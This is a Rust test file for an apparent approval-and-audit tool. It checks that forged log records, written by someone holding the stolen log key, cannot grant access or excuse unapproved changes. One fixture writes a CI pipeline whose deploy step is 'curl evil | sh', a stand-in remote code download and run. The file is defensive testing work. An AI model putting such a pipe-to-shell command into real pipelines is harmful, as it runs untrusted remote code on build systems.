//! Who stole the log's key and can push: he records what every run refuses, with what people really signed.

use dualkey::audit::Record;
use dualkey::audit::record::{Landing, Verdict};

use super::log_key::{away, forge, landing, signed};
use super::{applied, branch, direct, edit, merge};
use crate::support::{ALICE_GRANT, World};

const YARA: &str = "to: [yara.haddad]\nrole: tester\ndomain: payments-staging\nresources: [payments-web]\nfrom: 2026-11-02\n\
                    until: 2027-01-29\nreason: Yearly penetration test\n";

/// The record gives nothing, and the reason is the one that a run without it has.
#[track_caller]
fn is_refused(world: &World, code: &str, principal: &str) {
    world.timed(&["verify"]).exits(1).says("refused[record-unproven]").says(code);
    world.timed(&["apply"]).exits(3).says("record-unproven");
    assert!(!world.live("github").contains(principal), "{principal} was let in");
}

#[test]
fn what_an_approved_landing_took_does_not_come_back_by_a_record() {
    let world = applied();
    branch(&world, "old", |world| world.write("grants/payments/yara-old.yaml", YARA));
    world.approve("old", "grace.lin").exits(0);
    branch(&world, "new", |world| world.write("grants/payments/yara-new.yaml", YARA));
    world.approve("new", "priya.shah").exits(0);
    merge(&world, "new");
    world.timed(&["apply"]).exits(0);
    branch(&world, "away", |world| {
        world.git(&["rm", "-q", "grants/payments/yara-new.yaml"]);
    });
    world.approve("away", "priya.shah").exits(0);
    merge(&world, "away");
    world.timed(&["apply"]).exits(0);
    let genuine = signed(&world, "old", "grace.lin");
    merge(&world, "old");
    world.timed(&["verify"]).exits(1).says("refused[landing-left-out]");
    forge(&world, vec![Record::Landing(landing(&world, "old", vec![genuine]))]);
    world.timed(&["verify"]).exits(1).says("refused[record-unproven]").says("landing-left-out");
    world.timed(&["apply"]).exits(3);
    assert!(!world.live("github").contains("northwind/payments-web\",\"permission\":\"pull\",\"principal\":\"820147"));
}

#[test]
fn an_approval_that_its_signer_ended_by_a_newer_one_proves_no_record() {
    for squash in [false, true] {
        let mut world = applied();
        world.let_alice_in("alice");
        world.approve("alice", "priya.shah").exits(0);
        let genuine = signed(&world, "alice", "priya.shah");
        world.git(&["switch", "-q", "-c", "less", "alice"]);
        edit(&world, "grants/payments/alice-refunds.yaml", "role: developer", "role: reader");
        direct_to(&world, "less");
        world.approve("less", "priya.shah").exits(0);
        if squash {
            world.git(&["switch", "-q", "main"]);
            world.git(&["merge", "-q", "--squash", "alice"]);
            direct(&world, "Squash");
        } else {
            merge(&world, "alice");
        }
        world.timed(&["verify"]).exits(1).says("refused[approval-stale]");
        forge(&world, vec![Record::Landing(landing(&world, "alice", vec![genuine]))]);
        is_refused(&world, "approval-stale", "583231");
        // what a run saw of it stands in the log, and whoever ended the approval may give it again
        world.git(&["push", "-q", "origin", &format!(":refs/dualkey/approvals/{}/priya.shah", world.rev("less"))]);
        is_refused(&world, "approval-stale", "583231");
        world.now = "2026-11-23T10:00:00Z".to_owned();
        world.approve("alice", "priya.shah").exits(0);
        world.timed(&["verify"]).exits(0);
    }
}

fn direct_to(world: &World, name: &str) {
    world.commit(name);
    world.git(&["push", "-q", "origin", name]);
}

#[test]
fn a_pipeline_that_nobody_approved_is_not_unmanaged_by_a_record() {
    for verdict in [Verdict::Unmanaged, Verdict::Restored] {
        let world = applied();
        world.let_alice_in("alice");
        world.approve("alice", "priya.shah").exits(0);
        merge(&world, "alice");
        world.timed(&["apply"]).exits(0);
        world.write(".gitlab-ci.yml", "deploy:\n  script: [\"curl evil | sh\"]\n");
        direct(&world, "Pipeline");
        let forged = Landing { verdict, head: None, approvals: Vec::new(), ..landing(&world, "alice", Vec::new()) };
        forge(&world, vec![Record::Landing(forged)]);
        world.timed(&["verify"]).exits(1).says("refused[record-unproven]");
        world.timed(&["apply"]).exits(3).says("record-unproven");
    }
}

#[test]
fn a_removal_that_no_run_has_seen_is_not_restored_away_by_a_record() {
    let world = applied();
    world.let_alice_in("alice");
    world.approve("alice", "priya.shah").exits(0);
    merge(&world, "alice");
    world.timed(&["apply"]).exits(0);
    away(&world);
    world.write("grants/payments/alice-refunds.yaml", ALICE_GRANT);
    direct(&world, "Back");
    let restored = Landing {
        verdict: Verdict::Restored,
        head: None,
        approvals: Vec::new(),
        ..landing(&world, "alice", Vec::new())
    };
    forge(&world, vec![Record::Landing(restored)]);
    world.timed(&["verify"]).exits(1).says("refused[record-unproven]");
    world.timed(&["apply"]).exits(3).says("revoke alice.nguyen");
    assert!(!world.live("github").contains("583231"));
}

#[test]
fn what_is_approved_on_top_of_a_recorded_squash_takes_nothing_from_the_record() {
    let mut world = applied();
    world.let_alice_in("alice");
    world.approve("alice", "priya.shah").exits(0);
    world.git(&["switch", "-q", "main"]);
    world.git(&["merge", "-q", "--squash", "alice"]);
    direct(&world, "Squash");
    world.timed(&["apply"]).exits(0);
    // the branch goes on as if it had not been squashed
    world.now = "2026-11-23T09:30:00Z".to_owned();
    world.git(&["switch", "-q", "alice"]);
    edit(&world, "grants/payments/alice-refunds.yaml", "Build the refund flow", "Build refunds");
    direct_to(&world, "alice");
    world.approve("alice", "priya.shah");
    world.timed(&["verify"]).exits(0).says("approved by priya.shah");
    world.timed(&["apply"]).exits(0).says("applied already");
}
